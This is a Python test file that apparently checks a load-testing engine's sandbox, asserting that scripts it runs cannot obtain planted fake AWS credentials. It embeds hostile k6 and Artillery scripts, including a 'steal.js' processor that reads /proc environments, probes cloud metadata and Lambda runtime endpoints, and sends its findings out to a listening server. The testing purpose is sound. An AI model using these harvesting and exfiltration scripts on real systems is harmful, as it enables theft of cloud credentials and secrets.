"""An engine has no credentials: scripts that look for them in the environment, in /proc and on the network find none.

What Artillery's own code (a processor) can reach by network is not limited by us but by the place: see runner_images/README.md.
"""

from __future__ import annotations

import http.server
import os
import subprocess
import sys
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import timedelta
from fractions import Fraction
from pathlib import Path
from urllib.parse import parse_qs, urlsplit

import pytest

from portal.core.guard import Guard, Network
from portal.core.load import ClosedLoad, Load, OpenLoad
from portal.core.ports import EngineTools
from portal.core.script import ScriptSource
from tests.agent.lives import ROOT
from tests.runners.confined import confined
from tests.runners.prepared import Prepared

MARK = "c3r7ainly-secret"
CREDENTIALS = {
    "AWS_ACCESS_KEY_ID": f"AKIA{MARK}", "AWS_SECRET_ACCESS_KEY": MARK, "AWS_SESSION_TOKEN": MARK, "AWS_REGION": "eu-central-1",
    "AWS_CONTAINER_CREDENTIALS_RELATIVE_URI": f"/v2/credentials/{MARK}", "AWS_LAMBDA_RUNTIME_API": f"127.0.0.1:9001/{MARK}",
}  # fmt: skip
METADATA = ("169.254.169.254", "169.254.170.2")
K6 = ScriptSource("k6", "main.js", """
import http from 'k6/http';
export const options = { vus: 1, iterations: 1 };
const tell = (name, value) => http.get(`${__ENV.TARGET_SHOP}/found?${encodeURIComponent(name)}=${encodeURIComponent(value)}`);
export default function () {
  tell('env', JSON.stringify(__ENV));
  for (const at of ['169.254.169.254', '169.254.170.2', __ENV.RUNTIME_API]) {
    tell(at, http.get(`http://${at}/latest/api`, { timeout: '2s' }).error);
  }
}
""")  # fmt: skip
ARTILLERY = ScriptSource(
    "artillery", "main.yml", """
config: { target: "{{ $env.TARGET_SHOP }}", processor: ./steal.js, phases: [{ duration: 1, arrivalRate: 1 }] }
scenarios: [{ flow: [{ function: steal }, { get: { url: "/found?{{ loot }}" } }] }]
""", {"steal.js": b"""
const fs = require('fs'), http = require('http'), { execFileSync } = require('child_process');
const read = (pid) => { try { return fs.readFileSync(`/proc/${pid}/environ`, 'utf8'); } catch (error) { return error.code; } };
const ask = (at) => new Promise((done) => http.get(`http://${at}/latest/api`, { timeout: 2000 })
  .on('response', (answer) => done(String(answer.statusCode))).on('timeout', function () { this.destroy(new Error('timeout')); })
  .on('error', (error) => done(error.code || error.message)));
module.exports = { steal: async (context) => {
  const all = fs.readdirSync('/proc').filter((name) => /^[0-9]+$/.test(name)).map(read).join(' ');
  const found = { env: JSON.stringify(process.env), parent: read(process.ppid), any: String(all.includes('c3r7ainly-secret')) };
  for (const at of ['169.254.169.254', '169.254.170.2', process.env.RUNTIME_API]) found[at] = await ask(at);
  if (process.env.BY_CHILD) {
    execFileSync(process.execPath, ['-e', `require('http').get('http://${process.env.BY_CHILD}/child', (a) => a.resume())`]);
  }
  context.vars.loot = Object.entries(found).map((pair) => pair.map(encodeURIComponent).join('=')).join('&');
} };
"""},
)  # fmt: skip


@contextmanager
def listening(address: str) -> Iterator[tuple[str, list[str]]]:
    """A server's address and what it was asked for."""
    asked: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.send_header("Content-Length", "0")
            self.end_headers()

        def log_message(self, *args: object) -> None:
            """Quiet."""

    server = http.server.ThreadingHTTPServer((address, 0), Handler)
    server.daemon_threads = True
    threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()
    try:
        yield f"{address}:{server.server_port}", asked
    finally:
        server.shutdown()
        server.server_close()


def loot(folder: Path, tools: EngineTools, script: ScriptSource, load: Load, **parameters: str) -> dict[str, str]:
    """What the script told the target it had found; Lambda's own API on loopback was not reached by it."""
    with listening("127.0.0.1") as (runtime_api, reached), listening("127.0.0.2") as (shop, told):
        lives = Prepared(
            folder, tools, script, load, target=f"http://{shop}", parameters={"RUNTIME_API": runtime_api, **parameters},
            network=Network({"127.0.0.2": ("127.0.0.2",)}), guard=Guard(networks=("127.0.0.2/32",)),
        )  # fmt: skip
        own = {"K6_BIN": tools.k6, "NODE_BIN": tools.node, "ARTILLERY_BIN": tools.artillery} | CREDENTIALS
        try:
            process = lives.begin("runner_images.agent", lives.assignment() | own, before=confined())
            lives.start()
            assert process.wait(60) == 0, lives.logs()
        finally:
            lives.close()
        assert told, lives.done()
        assert reached == []
    found: dict[str, str] = {}
    for path in told:
        found |= {name: values[0] for name, values in parse_qs(urlsplit(path).query, keep_blank_values=True).items()}
    return found


@pytest.mark.engines
def test_a_k6_script_finds_nothing(tmp_path: Path, k6: EngineTools) -> None:
    found = loot(tmp_path, k6, K6, ClosedLoad.constant(1, timedelta(seconds=1)))
    assert MARK not in str(found)
    assert "TARGET_SHOP" in found["env"]
    assert "AWS_" not in found["env"]
    said = [value for name, value in found.items() if name != "env"]
    assert len(said) == 3
    assert all("blacklisted" in each for each in said), said


@pytest.mark.engines
def test_an_artillery_processor_finds_nothing(tmp_path: Path, artillery: EngineTools) -> None:
    with listening("127.0.0.1") as (elsewhere, reached):
        load = OpenLoad.constant(Fraction(1), timedelta(seconds=2))
        found = loot(tmp_path, artillery, ARTILLERY, load, BY_CHILD=elsewhere)
    assert MARK not in str(found)
    assert "TARGET_SHOP" in found["env"]
    assert "AWS_" not in found["env"]
    assert found["parent"] == "EACCES"
    assert found["any"] == "false"
    assert not {found[address] for address in METADATA} & {"200", "404", "timeout"}, found
    # What we say in the README: a processor that starts a program of its own reaches what the place's network lets it.
    assert reached == ["/child"] * len(reached) != []


READ = "import sys; print(open(f'/proc/{sys.argv[1]}/environ').read())"
SLEEP = "import sys; from runner_images.agent.privileges import hide; {}; print('up', flush=True); sys.stdin.read()"


@pytest.mark.parametrize(("does", "is_read"), [("hide()", False), ("pass", True)])
def test_only_a_process_that_hides_keeps_its_environment(does: str, is_read: bool) -> None:
    argv = confined(sys.executable, "-c", SLEEP.format(does))
    with subprocess.Popen(argv, env={"TOKEN": MARK}, cwd=ROOT, stdin=subprocess.PIPE, stdout=subprocess.PIPE) as process:
        assert process.stdout is not None
        assert process.stdout.readline() == b"up\n"
        reader = confined(sys.executable, "-c", READ, str(process.pid))
        done = subprocess.run(reader, env={"PATH": os.environ["PATH"]}, capture_output=True, text=True, check=False)
    assert (MARK in done.stdout) is is_read
    assert ("PermissionError" in done.stderr) is not is_read
